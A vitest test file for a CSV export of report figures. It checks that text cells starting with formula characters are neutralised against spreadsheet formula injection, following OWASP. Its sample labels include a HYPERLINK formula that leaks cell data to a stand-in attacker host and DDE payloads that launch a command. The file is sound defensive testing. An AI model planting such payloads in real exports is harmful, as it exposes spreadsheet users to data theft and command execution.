import { rmSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { figuresCsv, neutraliseFormula } from "../../../../src/outputs/data-export/figures-csv.ts";
import { brokenBriefings } from "../../../helpers/fixtures.ts";
import { renderedBriefings, wordsFor } from "../../../helpers/project.ts";

/** Labels a spreadsheet would run as formulas, one per figure of the fixture. */
const HOSTILE = {
  containers: '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
  berths: "+cmd|' /C calc'!A0",
  opened: "@SUM(1+1)*cmd|' /C calc'!A0",
};

describe("figuresCsv", () => {
  const dir = brokenBriefings({
    "briefing.yaml": (text) =>
      text
        .replace("label: Containers handled", `label: '${HOSTILE.containers.replaceAll("'", "''")}'`)
        .replace("label: Berths in use", `label: "${HOSTILE.berths.replaceAll('"', '\\"')}"`)
        .replace("label: Year the terminal opened", `label: "${HOSTILE.opened}"`)
        .replace("period: April 2024", 'period: "-1+2"')
        .replace("basis: year on year", 'basis: "\\tyear on year"')
        .replace("period: historical", 'period: "\\r=1+1"'),
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const [briefing] = renderedBriefings(dir);
  const rows = parse(figuresCsv(briefing!, "https://example.org/", wordsFor("en")), { bom: true, columns: true }) as Record<string, string>[];
  const byId = Object.fromEntries(rows.map((row) => [row.id, row]));

  it("prefixes every text cell a spreadsheet would run as a formula with a single quote", () => {
    expect(rows.map((row) => row.label)).toEqual([`'${HOSTILE.containers}`, `'${HOSTILE.berths}`, `'${HOSTILE.opened}`]);
    expect(byId.berths!.period).toBe("'-1+2");
    expect(byId.containers!.change_basis).toBe("'\tyear on year");
    expect(byId.opened!.period).toBe("'\r=1+1");
  });

  it("keeps numbers as numbers, negative ones included, and leaves harmless text alone", () => {
    expect(byId.containers!.value).toBe("12000");
    expect(byId.containers!.change_value).toBe("-3.5");
    expect(byId.opened!.value).toBe("1998");
    expect(byId.containers!.unit).toBe("TEU");
    expect(byId.containers!.source_url).toBe("https://example.org/trade-note/traffic/#traffic-p1");
  });

  it("leaves no text cell starting with a formula character", () => {
    const textColumns = ["label", "unit", "qualifier", "period", "kind", "display", "change_unit", "change_basis", "section_title"];
    const risky = rows.flatMap((row) => textColumns.map((column) => row[column] ?? "")).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky).toEqual([]);
  });

  it("neutralises each formula character per OWASP and nothing else", () => {
    expect(["=1", "+1", "-1", "@A", "\t=1", "\r=1", "a=1", "", "1-2"].map(neutraliseFormula)).toEqual([
      "'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1", "a=1", "", "1-2",
    ]);
  });
});
